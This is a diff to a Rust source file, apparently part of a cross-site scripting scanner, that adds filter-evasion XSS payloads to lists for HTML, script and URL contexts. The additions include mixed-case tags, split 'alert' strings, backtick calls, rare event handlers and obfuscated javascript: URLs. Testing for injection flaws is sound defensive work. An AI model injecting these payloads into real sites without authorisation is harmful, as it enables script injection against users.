@@ -25,6 +25,16 @@ pub(super) const HTML: &[&str] = &[
     "<IMG SRC=X ONERROR=&#97;&#108;&#101;&#114;&#116;&#40;{M}&#41;>",
     "<img src=x oonnerror=alert('{M}')>",
     "onx=<img src=x onerror=alert('{M}')>",
+    // Short, without blanks, in other cases, without the usual words and signs.
+    "<svg/onload=alert({M})>",
+    "<img/src=x/onerror=alert({M})>",
+    "<ImG sRc=x OnErRoR=alert({M})>",
+    "<img src=x onerror=self['ale'+'rt']({M})>",
+    "<img src=x onerror=\"alert&lpar;{M}&rpar;\">",
+    "<svg><animate onbegin=alert({M}) attributeName=x dur=1s>",
+    "<video><source onerror=alert({M})></video>",
+    "<style onload=alert({M})></style>",
+    "<x tabindex=1 autofocus onfocusin=alert({M})>",
     "<scr<script>ipt>alert('{M}')</scr</script>ipt><im<img>g src=x oonerrornerror=alert('{M}')>",
 ];
 /// Code.
@@ -45,6 +55,14 @@ pub(super) const SCRIPT: &[&str] = &[
     "\"-alert({M})}//",
     "\\\";alert({M});//",
     "`-alert({M})-`",
+    "\nalert({M})//",
+    "*/alert({M})/*",
+    "self['ale'+'rt']({M})",
+    "alert`{M}`",
+    "'-self['ale'+'rt']({M})-'",
+    "\"-self['ale'+'rt']({M})-\"",
+    "'-alert`{M}`-'",
+    "\"-alert`{M}`-\"",
 ];
 /// What selects elements in libraries that make elements of markup.
 const SELECTOR: &[&str] = &["<img src=x onerror=alert('{M}')>", "#<img src=x onerror=alert('{M}')>"];
@@ -80,6 +98,11 @@ pub(super) const URL: &[&str] = &[
     "\tjavascript:alert('{M}')",
     "JavaScript:alert('{M}')",
     "javajavascript:script:alert('{M}')",
+    "java\nscript:alert('{M}')",
+    "java\tscript:alert('{M}')",
+    "\u{1}javascript:alert('{M}')",
+    "javascript:self['ale'+'rt']('{M}')",
+    "javascript:alert`{M}`",
     "javascript:alert('{M}')//http://https://",
 ];
 
